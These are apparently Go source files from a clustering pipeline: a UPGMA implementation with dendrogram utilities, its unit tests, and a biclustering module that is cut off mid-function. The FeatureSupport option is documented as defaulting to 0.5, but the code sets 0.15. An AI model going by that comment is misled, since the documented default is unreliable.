	NLeaves int
	// Weights holds the weight (multiplicity) of each leaf.
	Weights []float64
	// Merges has exactly NLeaves-1 entries in merge order.
	Merges []Merge
}

// Linkage selects the inter-cluster distance update rule.
type Linkage int

// Linkage rules. The paper uses UPGMA (average); single and complete
// linkage exist for the ablation benchmarks.
const (
	LinkageAverage Linkage = iota + 1
	LinkageSingle
	LinkageComplete
)

// String names the linkage.
func (l Linkage) String() string {
	switch l {
	case LinkageAverage:
		return "average (UPGMA)"
	case LinkageSingle:
		return "single"
	case LinkageComplete:
		return "complete"
	default:
		return fmt.Sprintf("Linkage(%d)", int(l))
	}
}

// UPGMA performs hierarchical agglomerative clustering with average linkage
// over the condensed distance matrix d. weights gives the multiplicity of
// each item (nil means all ones); running weighted UPGMA over deduplicated
// rows is mathematically identical to running plain UPGMA over the expanded
// matrix, which is how the pipeline scales to the paper's 30,000 samples.
//
// The implementation is the classic "generic" algorithm with
// nearest-neighbour candidate arrays: O(n^2) memory and roughly O(n^2)
// time in practice.
func UPGMA(d *matrix.Condensed, weights []float64) (*Dendrogram, error) {
	return Agglomerate(d, weights, LinkageAverage)
}

// Agglomerate is UPGMA generalized over the linkage rule.
func Agglomerate(d *matrix.Condensed, weights []float64, linkage Linkage) (*Dendrogram, error) {
	n := d.N()
	if n == 0 {
		return nil, fmt.Errorf("cluster: no items")
	}
	if weights == nil {
		weights = make([]float64, n)
		for i := range weights {
			weights[i] = 1
		}
	}
	if len(weights) != n {
		return nil, fmt.Errorf("cluster: %d weights for %d items", len(weights), n)
	}
	for i, w := range weights {
		if w <= 0 || math.IsNaN(w) || math.IsInf(w, 0) {
			return nil, fmt.Errorf("cluster: weight[%d]=%v must be positive and finite", i, w)
		}
	}
	dend := &Dendrogram{
		NLeaves: n,
		Weights: append([]float64(nil), weights...),
		Merges:  make([]Merge, 0, n-1),
	}
	if n == 1 {
		return dend, nil
	}

	// Working distance matrix, full square for O(1) row scans, backed by a
	// single flat allocation (n slice headers would cost n allocations and
	// scatter the rows across the heap). Slot i holds the current cluster
	// occupying slot i; clusterID maps slot → linkage id. The upper
	// triangle is bulk-copied straight out of the condensed storage — row
	// i's entries are contiguous there — so initialization pays no per-cell
	// index arithmetic or mirrored writes; one transpose pass then fills
	// the lower triangle, which recompute's full-row scans rely on.
	dist := make([]float64, n*n)
	vals := d.Values()
	pos := 0
	for i := 0; i < n; i++ {
		copy(dist[i*n+i+1:(i+1)*n], vals[pos:pos+n-1-i])
		pos += n - 1 - i
	}
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			dist[j*n+i] = dist[i*n+j]
		}
	}
	active := make([]bool, n)
	size := make([]float64, n)
	clusterID := make([]int, n)
	for i := 0; i < n; i++ {
		active[i] = true
		size[i] = weights[i]
		clusterID[i] = i
	}

	// Nearest-neighbour candidates. nni[i] is the best partner found for
	// slot i; nnd[i] the corresponding distance. Entries go stale when their
	// partner is merged away and are recomputed on demand.
	nni := make([]int, n)
	nnd := make([]float64, n)
	recompute := func(i int) {
		best, bestD := -1, math.Inf(1)
		row := dist[i*n : (i+1)*n]
		for k := 0; k < n; k++ {
			if k == i || !active[k] {
				continue
			}
			if row[k] < bestD {
				best, bestD = k, row[k]
			}
		}
		nni[i], nnd[i] = best, bestD
	}
	for i := 0; i < n; i++ {
		recompute(i)
	}

	nextID := n
	for step := 0; step < n-1; step++ {
		// Find the globally closest valid candidate pair.
		bi := -1
		bd := math.Inf(1)
		for i := 0; i < n; i++ {
			if !active[i] {
				continue
			}
			if !active[nni[i]] {
				recompute(i)
			}
			if nnd[i] < bd {
				bi, bd = i, nnd[i]
			}
		}
		bj := nni[bi]
		if bi > bj {
			bi, bj = bj, bi
		}

		si, sj := size[bi], size[bj]
		dend.Merges = append(dend.Merges, Merge{
			A: clusterID[bi], B: clusterID[bj], Height: dist[bi*n+bj], Size: si + sj,
		})

		// Merge slot bj into slot bi with the linkage's distance update.
		// The mirrored dist[k][bi] write is load-bearing here — recompute(k)
		// scans row k — so only the initialization above can skip mirrors.
		active[bj] = false
		rowI, rowJ := dist[bi*n:(bi+1)*n], dist[bj*n:(bj+1)*n]
		for k := 0; k < n; k++ {
			if !active[k] || k == bi {
				continue
			}
			var nd float64
			switch linkage {
			case LinkageSingle:
				nd = math.Min(rowI[k], rowJ[k])
			case LinkageComplete:
				nd = math.Max(rowI[k], rowJ[k])
			default:
				nd = (si*rowI[k] + sj*rowJ[k]) / (si + sj)
			}
			rowI[k] = nd
			dist[k*n+bi] = nd
			// The new distance may undercut k's cached candidate.
			if nd < nnd[k] {
				nnd[k], nni[k] = nd, bi
			} else if nni[k] == bi || nni[k] == bj {
				recompute(k)
			}
		}
		size[bi] = si + sj
		clusterID[bi] = nextID
		nextID++
		recompute(bi)
	}
	return dend, nil
}

// UPGMARows is a convenience wrapper: it computes pairwise Euclidean
// distances over the rows of m (dense or CSR) and clusters them. The
// distance fill runs on every core; because the parallel kernel is
// bit-identical to the serial one, so is the dendrogram.
func UPGMARows(m matrix.RowMatrix, weights []float64) (*Dendrogram, error) {
	return UPGMARowsParallel(m, weights, 0)
}

// UPGMARowsParallel is UPGMARows with an explicit worker count for the
// pairwise-distance fill (0 = GOMAXPROCS, 1 = serial). The result is
// bit-identical for any worker count; the agglomeration itself is
// inherently sequential and stays serial.
func UPGMARowsParallel(m matrix.RowMatrix, weights []float64, workers int) (*Dendrogram, error) {
	return UPGMA(matrix.PairwiseDistancesParallel(m, workers), weights)
}

// node is the tree view of a dendrogram, built on demand.
type node struct {
	id          int
	left, right *node // nil for leaves
	height      float64
}

// tree reconstructs the binary tree from the linkage records and returns
// the root. Node ids follow linkage convention.
func (d *Dendrogram) tree() *node {
	nodes := make(map[int]*node, 2*d.NLeaves-1)
	for i := 0; i < d.NLeaves; i++ {
		nodes[i] = &node{id: i}
	}
	var root *node
	for k, m := range d.Merges {
		nd := &node{id: d.NLeaves + k, left: nodes[m.A], right: nodes[m.B], height: m.Height}
		nodes[nd.id] = nd
		root = nd
	}
	if root == nil {
		root = nodes[0]
	}
	return root
}

// LeafOrder returns the leaves in dendrogram (left-to-right) order — the
// order in which rows or columns are drawn in the Figure 2 heat map.
func (d *Dendrogram) LeafOrder() []int {
	order := make([]int, 0, d.NLeaves)
	var walk func(n *node)
	walk = func(n *node) {
		if n.left == nil {
			order = append(order, n.id)
			return
		}
		walk(n.left)
		walk(n.right)
	}
	walk(d.tree())
	return order
}

// leavesUnder collects the leaf ids under id.
func (d *Dendrogram) leavesUnder(root *node) []int {
	var out []int
	var walk func(n *node)
	walk = func(n *node) {
		if n.left == nil {
			out = append(out, n.id)
			return
		}
		walk(n.left)
		walk(n.right)
	}
	walk(root)
	return out
}

// CutHeight cuts the dendrogram at height h and returns the resulting
// clusters as slices of leaf indices. Merges with Height <= h are kept.
func (d *Dendrogram) CutHeight(h float64) [][]int {
	parentOf := make(map[int]int, 2*d.NLeaves)
	for k, m := range d.Merges {
		if m.Height <= h {
			id := d.NLeaves + k
			parentOf[m.A] = id
			parentOf[m.B] = id
		}
	}
	find := func(x int) int {
		for {
			p, ok := parentOf[x]
			if !ok {
				return x
			}
			x = p
		}
	}
	groups := make(map[int][]int)
	for i := 0; i < d.NLeaves; i++ {
		r := find(i)
		groups[r] = append(groups[r], i)
	}
	roots := make([]int, 0, len(groups))
	for r := range groups {
		roots = append(roots, r)
	}
	sort.Ints(roots)
	out := make([][]int, 0, len(groups))
	for _, r := range roots {
		out = append(out, groups[r])
	}
	return out
}

// CutK cuts the dendrogram into exactly k clusters (1 <= k <= NLeaves) by
// undoing the last k-1 merges.
func (d *Dendrogram) CutK(k int) ([][]int, error) {
	if k < 1 || k > d.NLeaves {
		return nil, fmt.Errorf("cluster: cannot cut %d leaves into %d clusters", d.NLeaves, k)
	}
	keep := len(d.Merges) - (k - 1)
	parentOf := make(map[int]int, 2*keep)
	for i := 0; i < keep; i++ {
		m := d.Merges[i]
		id := d.NLeaves + i
		parentOf[m.A] = id
		parentOf[m.B] = id
	}
	find := func(x int) int {
		for {
			p, ok := parentOf[x]
			if !ok {
				return x
			}
			x = p
		}
	}
	groups := make(map[int][]int)
	for i := 0; i < d.NLeaves; i++ {
		r := find(i)
		groups[r] = append(groups[r], i)
	}
	roots := make([]int, 0, len(groups))
	for r := range groups {
		roots = append(roots, r)
	}
	sort.Ints(roots)
	out := make([][]int, 0, len(groups))
	for _, r := range roots {
		out = append(out, groups[r])
	}
	return out, nil
}

// WeightOf sums the leaf weights of the given leaf indices.
func (d *Dendrogram) WeightOf(leaves []int) float64 {
	var s float64
	for _, l := range leaves {
		s += d.Weights[l]
	}
	return s
}

// TotalWeight is the sum of all leaf weights (the expanded sample count).
func (d *Dendrogram) TotalWeight() float64 {
	var s float64
	for _, w := range d.Weights {
		s += w
	}
	return s
}

// CopheneticDistances returns the condensed cophenetic distance matrix: the
// cophenetic distance between two leaves is the height at which they are
// first joined in the tree.
func (d *Dendrogram) CopheneticDistances() *matrix.Condensed {
	c := matrix.NewCondensed(d.NLeaves)
	// Union-style accumulation: process merges in order, tracking the leaf
	// set of every cluster id; pairs across the two sides get the merge
	// height, which is their lowest common ancestor by construction.
	leaves := make(map[int][]int, 2*d.NLeaves)
	for i := 0; i < d.NLeaves; i++ {
		leaves[i] = []int{i}
	}
	for k, m := range d.Merges {
		la, lb := leaves[m.A], leaves[m.B]
		for _, a := range la {
			for _, b := range lb {
				c.Set(a, b, m.Height)
			}
		}
		merged := make([]int, 0, len(la)+len(lb))
		merged = append(merged, la...)
		merged = append(merged, lb...)
		leaves[d.NLeaves+k] = merged
		delete(leaves, m.A)
		delete(leaves, m.B)
	}
	return c
}

// CopheneticCorrelation returns the Pearson correlation between the
// dendrogram's cophenetic distances and the original distances — the
// validation statistic the paper reports as 0.92. It is weighted by the
// product of leaf weights so deduplicated inputs score identically to the
// expanded matrix.
func (d *Dendrogram) CopheneticCorrelation(orig *matrix.Condensed) (float64, error) {
	if orig.N() != d.NLeaves {
		return 0, fmt.Errorf("cluster: distance matrix over %d items, dendrogram over %d", orig.N(), d.NLeaves)
	}
	if d.NLeaves < 3 {
		return 0, fmt.Errorf("cluster: cophenetic correlation needs >= 3 items")
	}
	coph := d.CopheneticDistances()
	var sw, sx, sy float64
	for i := 0; i < d.NLeaves; i++ {
		for j := i + 1; j < d.NLeaves; j++ {
			w := d.Weights[i] * d.Weights[j]
			sw += w
			sx += w * orig.At(i, j)
			sy += w * coph.At(i, j)
		}
	}
	mx, my := sx/sw, sy/sw
	var sxy, sxx, syy float64
	for i := 0; i < d.NLeaves; i++ {
		for j := i + 1; j < d.NLeaves; j++ {
			w := d.Weights[i] * d.Weights[j]
			dx := orig.At(i, j) - mx
			dy := coph.At(i, j) - my
			sxy += w * dx * dy
			sxx += w * dx * dx
			syy += w * dy * dy
		}
	}
	// Degenerate inputs: if both distance sets are constant the tree
	// represents them perfectly; if only one is constant there is no linear
	// relationship to measure.
	const eps = 1e-18
	if sxx <= eps && syy <= eps {
		return 1, nil
	}
	if sxx <= eps || syy <= eps {
		return 0, nil
	}
	return sxy / math.Sqrt(sxx*syy), nil
}
