package cluster

import (
	"math"
	"math/rand"
	"sort"
	"strings"
	"testing"
	"testing/quick"

	"psigene/internal/matrix"
)

// twoBlobs returns a matrix with two well-separated groups of points.
func twoBlobs(t *testing.T) *matrix.Dense {
	t.Helper()
	m, err := matrix.NewFromRows([][]float64{
		{0, 0}, {0.1, 0}, {0, 0.1}, // blob A
		{10, 10}, {10.1, 10}, {10, 10.1}, // blob B
	})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestUPGMATwoBlobs(t *testing.T) {
	m := twoBlobs(t)
	d, err := UPGMARows(m, nil)
	if err != nil {
		t.Fatalf("UPGMA: %v", err)
	}
	if len(d.Merges) != 5 {
		t.Fatalf("merges=%d, want 5", len(d.Merges))
	}
	// The last merge joins the two blobs at a large height.
	last := d.Merges[len(d.Merges)-1]
	if last.Height < 10 {
		t.Fatalf("final merge height=%v, want >= 10", last.Height)
	}
	// Cutting into 2 clusters recovers the blobs.
	cl, err := d.CutK(2)
	if err != nil {
		t.Fatal(err)
	}
	if len(cl) != 2 {
		t.Fatalf("clusters=%d, want 2", len(cl))
	}
	for _, c := range cl {
		sort.Ints(c)
	}
	sort.Slice(cl, func(i, j int) bool { return cl[i][0] < cl[j][0] })
	want := [][]int{{0, 1, 2}, {3, 4, 5}}
	for i := range want {
		if len(cl[i]) != len(want[i]) {
			t.Fatalf("cluster %d = %v, want %v", i, cl[i], want[i])
		}
		for k := range want[i] {
			if cl[i][k] != want[i][k] {
				t.Fatalf("cluster %d = %v, want %v", i, cl[i], want[i])
			}
		}
	}
}

func TestUPGMAHeightsMonotone(t *testing.T) {
	// UPGMA on a metric produces (weakly) monotone merge heights.
	rng := rand.New(rand.NewSource(7))
	rows := make([][]float64, 40)
	for i := range rows {
		rows[i] = []float64{rng.NormFloat64(), rng.NormFloat64(), rng.NormFloat64()}
	}
	m, _ := matrix.NewFromRows(rows)
	d, err := UPGMARows(m, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i < len(d.Merges); i++ {
		if d.Merges[i].Height+1e-9 < d.Merges[i-1].Height {
			t.Fatalf("merge %d height %v < previous %v", i, d.Merges[i].Height, d.Merges[i-1].Height)
		}
	}
}

func TestUPGMAErrors(t *testing.T) {
	if _, err := UPGMA(matrix.NewCondensed(0), nil); err == nil {
		t.Fatal("empty input: want error")
	}
	if _, err := UPGMA(matrix.NewCondensed(3), []float64{1, 2}); err == nil {
		t.Fatal("weight length mismatch: want error")
	}
	if _, err := UPGMA(matrix.NewCondensed(2), []float64{1, -1}); err == nil {
		t.Fatal("negative weight: want error")
	}
	if _, err := UPGMA(matrix.NewCondensed(2), []float64{1, math.NaN()}); err == nil {
		t.Fatal("NaN weight: want error")
	}
}

func TestUPGMASingleLeaf(t *testing.T) {
	d, err := UPGMA(matrix.NewCondensed(1), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Merges) != 0 || d.NLeaves != 1 {
		t.Fatalf("unexpected dendrogram: %+v", d)
	}
	order := d.LeafOrder()
	if len(order) != 1 || order[0] != 0 {
		t.Fatalf("leaf order=%v", order)
	}
}

// TestWeightedEqualsExpanded verifies the key scaling property: weighted
// UPGMA over deduplicated points produces the same merge heights as plain
// UPGMA over the expanded point set.
func TestWeightedEqualsExpanded(t *testing.T) {
	// Three distinct points; point 0 appears 3 times, point 1 twice.
	pts := [][]float64{{0, 0}, {1, 0}, {5, 5}}
	mult := []int{3, 2, 1}

	var expandedRows [][]float64
	for i, p := range pts {
		for k := 0; k < mult[i]; k++ {
			expandedRows = append(expandedRows, p)
		}
	}
	me, _ := matrix.NewFromRows(expandedRows)
	de, err := UPGMARows(me, nil)
	if err != nil {
		t.Fatal(err)
	}

	md, _ := matrix.NewFromRows(pts)
	dd, err := UPGMARows(md, []float64{3, 2, 1})
	if err != nil {
		t.Fatal(err)
	}

	// Expanded tree has extra zero-height merges of duplicates; its nonzero
	// merge heights must match the weighted tree's merge heights.
	var expHeights, dedupHeights []float64
	for _, m := range de.Merges {
		if m.Height > 1e-12 {
			expHeights = append(expHeights, m.Height)
		}
	}
	for _, m := range dd.Merges {
		dedupHeights = append(dedupHeights, m.Height)
	}
	if len(expHeights) != len(dedupHeights) {
		t.Fatalf("nonzero merges: expanded %d vs weighted %d", len(expHeights), len(dedupHeights))
	}
	sort.Float64s(expHeights)
	sort.Float64s(dedupHeights)
	for i := range expHeights {
		if math.Abs(expHeights[i]-dedupHeights[i]) > 1e-9 {
			t.Fatalf("height %d: expanded %v vs weighted %v", i, expHeights[i], dedupHeights[i])
		}
	}
}

func TestLeafOrderIsPermutation(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	rows := make([][]float64, 25)
	for i := range rows {
		rows[i] = []float64{rng.Float64() * 10, rng.Float64() * 10}
	}
	m, _ := matrix.NewFromRows(rows)
	d, err := UPGMARows(m, nil)
	if err != nil {
		t.Fatal(err)
	}
	order := d.LeafOrder()
	if len(order) != 25 {
		t.Fatalf("order length=%d", len(order))
	}
	seen := make(map[int]bool)
	for _, v := range order {
		if v < 0 || v >= 25 || seen[v] {
			t.Fatalf("order %v is not a permutation", order)
		}
		seen[v] = true
	}
}

func TestCutHeightExtremes(t *testing.T) {
	m := twoBlobs(t)
	d, _ := UPGMARows(m, nil)
	if got := len(d.CutHeight(-1)); got != 6 {
		t.Fatalf("cut below all merges: %d clusters, want 6", got)
	}
	if got := len(d.CutHeight(math.Inf(1))); got != 1 {
		t.Fatalf("cut above all merges: %d clusters, want 1", got)
	}
}

func TestCutKErrors(t *testing.T) {
	m := twoBlobs(t)
	d, _ := UPGMARows(m, nil)
	if _, err := d.CutK(0); err == nil {
		t.Fatal("CutK(0): want error")
	}
	if _, err := d.CutK(7); err == nil {
		t.Fatal("CutK(n+1): want error")
	}
	cl, err := d.CutK(6)
	if err != nil || len(cl) != 6 {
		t.Fatalf("CutK(6): %v, %d clusters", err, len(cl))
	}
	cl, err = d.CutK(1)
	if err != nil || len(cl) != 1 || len(cl[0]) != 6 {
		t.Fatalf("CutK(1): %v %v", err, cl)
	}
}

func TestCutKPartition(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	rows := make([][]float64, 30)
	for i := range rows {
		rows[i] = []float64{rng.NormFloat64(), rng.NormFloat64()}
	}
	m, _ := matrix.NewFromRows(rows)
	d, _ := UPGMARows(m, nil)
	for k := 1; k <= 30; k += 7 {
		cl, err := d.CutK(k)
		if err != nil {
			t.Fatal(err)
		}
		if len(cl) != k {
			t.Fatalf("CutK(%d) gave %d clusters", k, len(cl))
		}
		seen := make(map[int]bool)
		for _, c := range cl {
			for _, leaf := range c {
				if seen[leaf] {
					t.Fatalf("leaf %d in two clusters", leaf)
				}
				seen[leaf] = true
			}
		}
		if len(seen) != 30 {
			t.Fatalf("partition covers %d leaves, want 30", len(seen))
		}
	}
}

func TestCopheneticPerfectForUltrametric(t *testing.T) {
	// If the input distances are already ultrametric, the cophenetic
	// correlation is exactly 1.
	d := matrix.NewCondensed(4)
	// Two pairs at distance 1, everything across pairs at distance 4.
	d.Set(0, 1, 1)
	d.Set(2, 3, 1)
	for _, p := range [][2]int{{0, 2}, {0, 3}, {1, 2}, {1, 3}} {
		d.Set(p[0], p[1], 4)
	}
	dend, err := UPGMA(d, nil)
	if err != nil {
		t.Fatal(err)
	}
	c, err := dend.CopheneticCorrelation(d)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(c-1) > 1e-9 {
		t.Fatalf("cophenetic=%v, want 1", c)
	}
}

func TestCopheneticHighForSeparatedBlobs(t *testing.T) {
	m := twoBlobs(t)
	dist := matrix.PairwiseDistances(m)
	dend, _ := UPGMA(dist, nil)
	c, err := dend.CopheneticCorrelation(dist)
	if err != nil {
		t.Fatal(err)
	}
	if c < 0.9 {
		t.Fatalf("cophenetic=%v, want >= 0.9 for well-separated blobs", c)
	}
}

func TestCopheneticErrors(t *testing.T) {
	m := twoBlobs(t)
	dend, _ := UPGMARows(m, nil)
	if _, err := dend.CopheneticCorrelation(matrix.NewCondensed(3)); err == nil {
		t.Fatal("size mismatch: want error")
	}
}

func TestCopheneticDistanceIsMergeHeight(t *testing.T) {
	m := twoBlobs(t)
	d, _ := UPGMARows(m, nil)
	coph := d.CopheneticDistances()
	last := d.Merges[len(d.Merges)-1].Height
	// Leaves in different blobs meet at the root.
	if math.Abs(coph.At(0, 5)-last) > 1e-9 {
		t.Fatalf("coph(0,5)=%v, want root height %v", coph.At(0, 5), last)
	}
	// Leaves in the same blob meet strictly below the root.
	if coph.At(0, 1) >= last {
		t.Fatalf("coph(0,1)=%v, want < %v", coph.At(0, 1), last)
	}
}

// Property: for random point sets, cophenetic distances are ultrametric:
// coph(a,c) <= max(coph(a,b), coph(b,c)).
func TestCopheneticUltrametricProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n := 10 + rng.Intn(10)
		rows := make([][]float64, n)
		for i := range rows {
			rows[i] = []float64{rng.NormFloat64(), rng.NormFloat64()}
		}
		m, _ := matrix.NewFromRows(rows)
		d, err := UPGMARows(m, nil)
		if err != nil {
			return false
		}
		coph := d.CopheneticDistances()
		for a := 0; a < n; a++ {
			for b := a + 1; b < n; b++ {
				for c := b + 1; c < n; c++ {
					ab, bc, ac := coph.At(a, b), coph.At(b, c), coph.At(a, c)
					if ac > math.Max(ab, bc)+1e-9 {
						return false
					}
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20}); err != nil {
		t.Fatal(err)
	}
}

func TestLinkageVariants(t *testing.T) {
	m := twoBlobs(t)
	dist := matrix.PairwiseDistances(m)
	for _, l := range []Linkage{LinkageAverage, LinkageSingle, LinkageComplete} {
		d, err := Agglomerate(dist, nil, l)
		if err != nil {
			t.Fatalf("%v: %v", l, err)
		}
		cl, err := d.CutK(2)
		if err != nil || len(cl) != 2 {
			t.Fatalf("%v: cut failed: %v", l, err)
		}
		// Well-separated blobs are recovered under every linkage.
		for _, c := range cl {
			if len(c) != 3 {
				t.Fatalf("%v: clusters %v", l, cl)
			}
		}
	}
}

func TestLinkageHeightOrdering(t *testing.T) {
	// For the same data, single-linkage root height <= average <= complete.
	rng := rand.New(rand.NewSource(17))
	rows := make([][]float64, 30)
	for i := range rows {
		rows[i] = []float64{rng.NormFloat64(), rng.NormFloat64()}
	}
	m, _ := matrix.NewFromRows(rows)
	dist := matrix.PairwiseDistances(m)
	root := func(l Linkage) float64 {
		d, err := Agglomerate(dist, nil, l)
		if err != nil {
			t.Fatal(err)
		}
		return d.Merges[len(d.Merges)-1].Height
	}
	s, a, c := root(LinkageSingle), root(LinkageAverage), root(LinkageComplete)
	if !(s <= a+1e-9 && a <= c+1e-9) {
		t.Fatalf("root heights not ordered: single=%v average=%v complete=%v", s, a, c)
	}
}

func TestLinkageString(t *testing.T) {
	for _, l := range []Linkage{LinkageAverage, LinkageSingle, LinkageComplete} {
		if strings.HasPrefix(l.String(), "Linkage(") {
			t.Fatalf("linkage %d unnamed", l)
		}
	}
	if !strings.HasPrefix(Linkage(9).String(), "Linkage(") {
		t.Fatal("unknown linkage must fall back")
	}
}
