package cluster

import (
	"fmt"
	"math"
	"sort"

	"psigene/internal/matrix"
)

// Options configures the biclustering procedure.
type Options struct {
	// MinClusterFrac is the minimum fraction of total sample weight a row
	// cluster must cover to be selected (the paper's "rule of 5%").
	// Defaults to 0.05.
	MinClusterFrac float64
	// BlackHoleZeroFrac is the zero-cell fraction above which a bicluster is
	// declared a black hole and excluded from signature generation (the
	// paper's clusters 9 and 10). Defaults to 0.99.
	BlackHoleZeroFrac float64
	// FeatureSupport is the minimum weighted fraction of a cluster's samples
	// in which a feature must be nonzero for the feature to be considered
	// discriminating for that cluster. Defaults to 0.5.
	FeatureSupport float64
	// MaxClusters bounds the number of selected biclusters. Defaults to 32.
	MaxClusters int
	// Linkage selects the HAC update rule for the row clustering. Defaults
	// to LinkageAverage (the paper's UPGMA); the alternatives exist for the
	// linkage ablation.
	Linkage Linkage
	// Parallelism is the worker count for the distance kernels (pairwise
	// row distances and standardized column distances): 0 means GOMAXPROCS,
	// 1 forces the serial path. The parallel kernels fill disjoint regions
	// with unchanged per-entry accumulation order, so the biclustering
	// result is bit-identical for any value.
	Parallelism int
}

func (o Options) withDefaults() Options {
	if o.MinClusterFrac <= 0 {
		o.MinClusterFrac = 0.05
	}
	if o.BlackHoleZeroFrac <= 0 {
		o.BlackHoleZeroFrac = 0.99
	}
	if o.FeatureSupport <= 0 {
		o.FeatureSupport = 0.15
	}
	if o.MaxClusters <= 0 {
		o.MaxClusters = 32
	}
	if o.Linkage == 0 {
		o.Linkage = LinkageAverage
	}
	return o
}

// Bicluster is one block of the two-way clustering: a subset of samples
// (rows) sharing similar values over a subset of features (columns).
// Biclusters are nonoverlapping in rows and may share features.
type Bicluster struct {
	// ID is 1-based, assigned in heat-map (dendrogram leaf) order, matching
	// the paper's Figure 2 numbering convention.
	ID int
	// RowLeaves indexes the (possibly deduplicated) input rows.
	RowLeaves []int
	// SampleWeight is the total expanded sample count of the cluster.
	SampleWeight float64
	// Features holds the discriminating feature (column) indices.
	Features []int
	// FeatureOrder is the column-dendrogram ordering of Features (heat map).
	FeatureOrder []int
	// ZeroFraction is the weighted fraction of zero cells over all columns.
	ZeroFraction float64
	// BlackHole marks clusters with ZeroFraction above the threshold; no
	// signature is generated for them.
	BlackHole bool
}

// Result is the output of the biclustering step.
type Result struct {
	// RowDendrogram is the sample-axis tree.
	RowDendrogram *Dendrogram
	// ColDendrogram is the feature-axis tree over the full matrix (used to
	// order heat-map columns).
	ColDendrogram *Dendrogram
	// Biclusters are the selected clusters in heat-map order, including
	// black holes.
	Biclusters []Bicluster
	// Unclustered are row leaves not covered by any selected bicluster
	// (noise the paper notes as tolerated).
	Unclustered []int
	// CopheneticCorrelation validates the row tree against the original
	// distances (paper: 0.92).
	CopheneticCorrelation float64
}

// ActiveBiclusters returns the biclusters that are not black holes — the
// ones signatures are generated for.
func (r *Result) ActiveBiclusters() []Bicluster {
	out := make([]Bicluster, 0, len(r.Biclusters))
	for _, b := range r.Biclusters {
		if !b.BlackHole {
			out = append(out, b)
		}
	}
	return out
}

// Run performs the paper's two-way biclustering on the sample×feature
// matrix m (dense or CSR): UPGMA over rows, ≥5% cluster selection,
// black-hole detection, then per-cluster discriminating-feature
// identification with UPGMA column ordering. weights gives row
// multiplicities (nil for all ones).
func Run(m matrix.RowMatrix, weights []float64, opts Options) (*Result, error) {
	opts = opts.withDefaults()
	if m.Rows() < 2 {
		return nil, fmt.Errorf("cluster: need at least 2 rows, have %d", m.Rows())
	}
	if m.Cols() < 1 {
		return nil, fmt.Errorf("cluster: need at least 1 column")
	}

	// Row clustering runs on the raw count matrix: z-scoring inflates
	// rare-feature dimensions and flattens the family structure, so the
	// standardization the paper describes is applied only for the heat-map
	// display and for the column (feature-profile) clustering below.
	// Standardization is *virtual*: only the column stats are computed, and
	// all standardized column distances come from the algebraic expansion
	// in matrix.StandardizedColumnDistances — the matrix is never densified.
	st := m.ColumnStats()
	rowDist := matrix.PairwiseDistancesParallel(m, opts.Parallelism)
	rowDend, err := Agglomerate(rowDist, weights, opts.Linkage)
	if err != nil {
		return nil, fmt.Errorf("row clustering: %w", err)
	}
	coph, err := rowDend.CopheneticCorrelation(rowDist)
	if err != nil {
		return nil, fmt.Errorf("cophenetic: %w", err)
	}

	colDend, err := columnDendrogram(m, st, opts.Parallelism)
	if err != nil {
		return nil, fmt.Errorf("column clustering: %w", err)
	}

	clusters, unclustered := selectRowClusters(rowDend, opts)

	res := &Result{
		RowDendrogram:         rowDend,
		ColDendrogram:         colDend,
		Unclustered:           unclustered,
		CopheneticCorrelation: coph,
	}
	for i, leaves := range clusters {
		b := Bicluster{ID: i + 1, RowLeaves: leaves, SampleWeight: rowDend.WeightOf(leaves)}
		b.ZeroFraction = weightedZeroFraction(m, leaves, rowDend.Weights)
		b.BlackHole = b.ZeroFraction > opts.BlackHoleZeroFrac
		b.Features = discriminatingFeatures(m, leaves, rowDend.Weights, opts.FeatureSupport)
		b.FeatureOrder = orderFeatures(m, st, leaves, b.Features, opts.Parallelism)
		res.Biclusters = append(res.Biclusters, b)
	}
	return res, nil
}

// columnDendrogram clusters the standardized feature columns without
// materializing the standardized matrix.
func columnDendrogram(m matrix.RowMatrix, st matrix.ColStats, workers int) (*Dendrogram, error) {
	if m.Cols() == 1 {
		return &Dendrogram{NLeaves: 1, Weights: []float64{1}}, nil
	}
	d, err := matrix.StandardizedColumnDistancesParallel(m, st, nil, nil, workers)
	if err != nil {
		return nil, err
	}
	return UPGMA(d, nil)
}

// selectRowClusters automates the paper's visual heat-map selection with
// its "rule of 5%": over all prunings of the dendrogram (every antichain of
// subtrees — the formal counterpart of reading contiguous color blocks at
// different depths), pick the one with the most clusters that each cover at
// least MinClusterFrac of the total sample weight, breaking ties toward
// higher covered weight and then toward coarser clusters. Subtrees of
// identical samples (merge height equal to their children's) are never
// split, so duplicated payloads cannot be shattered into artificial
// clusters. Leaves outside every selected cluster are reported as
// unclustered noise, matching the paper's observation that some samples fit
// no bicluster. Clusters come back in heat-map order.
//
// The optimization is an exact O(n) dynamic program on the tree.
func selectRowClusters(d *Dendrogram, opts Options) (clusters [][]int, unclustered []int) {
	total := d.TotalWeight()
	minW := opts.MinClusterFrac * total
	root := d.tree()

	type score struct {
		big   int
		cov   float64
		split bool
	}
	scores := make(map[*node]score, 2*d.NLeaves)
	weightOf := make(map[*node]float64, 2*d.NLeaves)

	var solve func(n *node) score
	solve = func(n *node) score {
		var w float64
		if n.left == nil {
			w = d.Weights[n.id]
		} else {
			solve(n.left)
			solve(n.right)
			w = weightOf[n.left] + weightOf[n.right]
		}
		weightOf[n] = w

		keep := score{}
		if w >= minW {
			keep = score{big: 1, cov: w}
		}
		best := keep
		if n.left != nil && n.height > math.Max(n.left.height, n.right.height)+1e-12 {
			sl, sr := scores[n.left], scores[n.right]
			split := score{big: sl.big + sr.big, cov: sl.cov + sr.cov, split: true}
			if split.big > keep.big || (split.big == keep.big && split.cov > keep.cov+1e-12) {
				best = split
			}
		}
		scores[n] = best
		return best
	}
	solve(root)

	var collect func(n *node)
	collect = func(n *node) {
		s := scores[n]
		if s.split {
			collect(n.left)
			collect(n.right)
			return
		}
		leaves := d.leavesUnder(n)
		if s.big == 1 {
			clusters = append(clusters, leaves)
		} else {
			unclustered = append(unclustered, leaves...)
		}
	}
	collect(root)

	if len(clusters) == 0 {
		return [][]int{allLeaves(d)}, nil
	}
	// Enforce the cluster budget: demote the smallest clusters to noise.
	if len(clusters) > opts.MaxClusters {
